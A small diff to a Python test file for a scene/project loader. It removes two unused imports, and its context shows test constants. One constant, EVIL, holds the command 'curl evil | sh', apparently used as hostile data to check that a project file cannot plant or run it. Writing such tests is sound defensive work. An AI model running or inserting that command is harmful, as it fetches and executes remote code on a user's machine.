@@ -20,12 +20,12 @@ import numpy as np
 import pytest
 
 from conftest import random_cloud
-from project_craft import (cloud_ply, deflate, fake_home, layer_entry, manifest, project,
+from project_craft import (cloud_ply, fake_home, layer_entry, manifest, project,
                            raw_zip, run_cli, run_cli_peak, simple_project, snapshot, zero_bomb)
 from scene import project as proj
 from scene.errors import SceneFormatError
 from scene.project import load_project, read_manifest, save_project
-from scene.world import Bookmark, Layer, World
+from scene.world import Layer, World
 
 EVIL = b"curl evil | sh  # written by a project\n"
 GB = 1 << 30
